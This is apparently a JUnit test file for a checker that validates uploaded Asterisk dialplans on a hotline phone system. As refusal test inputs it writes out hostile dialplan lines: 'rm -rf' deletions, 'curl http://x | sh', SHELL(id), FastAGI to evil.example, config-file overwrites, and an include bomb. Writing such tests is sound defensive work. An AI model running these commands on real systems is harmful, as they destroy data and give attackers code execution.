package org.hotline.cti.domain.dialplan;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** Issue 11 item 11: an upload may not run programs or write files on the PBX, nor expand without bound. */
class DialplanSafetyTest {
    private static Map<String, String> withOutbound(String extra) throws IOException {
        Map<String, String> files = DialplanCheckerTest.repoDialplan();
        files.put("hotline-outbound.conf", files.get("hotline-outbound.conf") + "\n[evil]\n" + extra);
        return files;
    }

    private static List<String> errors(Map<String, String> files) {
        return DialplanChecker.check(files).errors().stream()
                .map(Object::toString)
                .toList();
    }

    @Test
    void shellApplicationsAndFunctionsAreRefusedWithFileAndLine() throws IOException {
        Map<String, String> files = withOutbound("""
                exten => 1,1,System(rm -rf /var/lib/asterisk)
                 same => n,TrySystem(curl http://x | sh)
                 same => n,Set(X=${SHELL(id)})
                 same => n,Set(FILE(/etc/asterisk/manager.conf,0,0,a)=evil)
                 same => n,ExecIf($[1=1]?System(reboot))
                 same => n,Set(Y=${EVAL(${CALLERID(name)})})
                 same => n,AGI(/bin/sh,-c,id)
                 same => n,Exec(${APP}(x))
                 same => n,MixMonitor(call.wav,,/bin/rm -rf /)
                 same => n,Record(/etc/passwd.wav)
                 same => n,ExternalIVR(/usr/bin/python3 x.py)
                 same => n,system (id)
                """);
        int first = files.get("hotline-outbound.conf").split("\n", -1).length - 13;
        List<String> e = errors(files);
        assertThat(e)
                .anyMatch(s -> s.startsWith(
                        "hotline-outbound.conf:" + (first + 1) + ": refused: System() runs a shell command"));
        assertThat(e).anyMatch(s -> s.startsWith("hotline-outbound.conf:" + (first + 2) + ": refused: TrySystem()"));
        assertThat(e).anyMatch(s -> s.startsWith("hotline-outbound.conf:" + (first + 3) + ": refused: SHELL()"));
        assertThat(e).anyMatch(s -> s.startsWith("hotline-outbound.conf:" + (first + 4) + ": refused: FILE()"));
        assertThat(e).anyMatch(s -> s.startsWith("hotline-outbound.conf:" + (first + 5) + ": refused: System()"));
        assertThat(e).anyMatch(s -> s.startsWith("hotline-outbound.conf:" + (first + 6) + ": refused: EVAL()"));
        assertThat(e)
                .anyMatch(s ->
                        s.startsWith("hotline-outbound.conf:" + (first + 7) + ": refused: AGI() with a local script"));
        assertThat(e)
                .anyMatch(s -> s.startsWith("hotline-outbound.conf:" + (first + 8)
                        + ": refused: Exec() runs an application whose name is computed"));
        assertThat(e)
                .anyMatch(s -> s.startsWith(
                        "hotline-outbound.conf:" + (first + 9) + ": refused: MixMonitor()'s third argument"));
        assertThat(e)
                .anyMatch(s -> s.startsWith(
                        "hotline-outbound.conf:" + (first + 10) + ": refused: Record() writes a file outside"));
        assertThat(e).anyMatch(s -> s.startsWith("hotline-outbound.conf:" + (first + 11) + ": refused: ExternalIVR()"));
        assertThat(e).anyMatch(s -> s.startsWith("hotline-outbound.conf:" + (first + 12) + ": refused: system()"));
    }

    @Test
    void harmlessLookalikesAndFastAgiPass() throws IOException {
        Map<String, String> files = withOutbound("""
                exten => 1,1,Set(SYSTEMNAME_COPY=${SYSTEMNAME})
                 same => n,AGI(agi://127.0.0.1:4573/arrival)
                 same => n,MixMonitor(${UNIQUEID}.wav,b)
                 same => n,NoOp(my_file(x) is not FILE)
                 same => n,Hangup()
                """);
        assertThat(errors(files)).isEmpty();
    }

    @Test
    void fastAgiToAnotherMachineIsRefusedEvenNested() throws IOException {
        // Hostile upload: the far AGI server may answer with "EXEC System ..." (a shell on the PBX)
        // and sees every caller's number.
        Map<String, String> files = withOutbound("""
                exten => 1,1,AGI(agi://evil.example:4573/arrival)
                 same => n,ExecIf($[1=1]?EAGI(agi://10.0.0.9/x))
                 same => n,AGI(hagi://[2001:db8::1]/x)
                 same => n,AGI(agi://localhost/arrival)
                 same => n,AGI(agi://[::1]:4573/arrival)
                 same => n,Hangup()
                """);
        int first = files.get("hotline-outbound.conf").split("\n", -1).length - 7;
        List<String> e = errors(files);
        assertThat(e)
                .anyMatch(s -> s.startsWith("hotline-outbound.conf:" + (first + 1)
                        + ": refused: AGI() to 'evil.example' lets that server run any application"));
        assertThat(e)
                .anyMatch(
                        s -> s.startsWith("hotline-outbound.conf:" + (first + 2) + ": refused: EAGI() to '10.0.0.9'"));
        assertThat(e)
                .anyMatch(s ->
                        s.startsWith("hotline-outbound.conf:" + (first + 3) + ": refused: AGI() to '[2001:db8::1]'"));
        assertThat(e).hasSize(3); // localhost and [::1] are this machine
    }

    @Test
    void aShellCallInGlobalsIsRefusedToo() throws IOException {
        Map<String, String> files = DialplanCheckerTest.repoDialplan();
        files.put("hotline-globals.conf", files.get("hotline-globals.conf") + "\nPWN = ${SHELL(id)}\n");
        assertThat(errors(files))
                .anyMatch(s -> s.startsWith("hotline-globals.conf:") && s.contains("refused: SHELL()"));
    }

    @Test
    @Timeout(5)
    void anIncludeBombIsReadOnceAndRefused() throws IOException {
        // 30 levels, each including the next twice: 2^30 expansions if each #include were followed.
        Map<String, String> files = new HashMap<>(DialplanCheckerTest.repoDialplan());
        files.put("extensions.conf", files.get("extensions.conf") + "\n#include bomb0.conf\n");
        for (int i = 0; i < 30; i++) {
            files.put("bomb" + i + ".conf", "#include bomb" + (i + 1) + ".conf\n#include bomb" + (i + 1) + ".conf\n");
        }
        files.put("bomb30.conf", "; end\n");
        List<String> e = errors(files);
        assertThat(e)
                .anyMatch(s -> s.startsWith("bomb0.conf:2: #include bomb1.conf: already included at bomb0.conf:1"));
        assertThat(e).anyMatch(s -> s.contains("includes nest deeper than " + DialplanParser.MAX_INCLUDE_DEPTH));
    }

    @Test
    void aCycleIsRefusedAtTheIncludeLine() throws IOException {
        Map<String, String> files = new HashMap<>(DialplanCheckerTest.repoDialplan());
        files.put("extensions.conf", files.get("extensions.conf") + "\n#include a.conf\n");
        files.put("a.conf", "; a\n#include b.conf\n");
        files.put("b.conf", "#include a.conf\n");
        assertThat(errors(files))
                .anyMatch(s -> s.startsWith("b.conf:1: #include cycle: extensions.conf -> a.conf -> b.conf -> a.conf"));
    }

    @Test
    void tooManyFilesOrTooMuchTextIsRefusedBeforeParsing() throws IOException {
        Map<String, String> many = new HashMap<>(DialplanCheckerTest.repoDialplan());
        for (int i = 0; i < DialplanChecker.MAX_FILES; i++) {
            many.put("x" + i + ".conf", "");
        }
        assertThat(errors(many)).singleElement().asString().startsWith("(upload): " + many.size() + " files");
        Map<String, String> big = new HashMap<>(DialplanCheckerTest.repoDialplan());
        big.put("big.conf", ";".repeat(DialplanChecker.MAX_TOTAL_CHARS));
        assertThat(errors(big)).singleElement().asString().contains("characters: a dialplan is at most");
    }
}
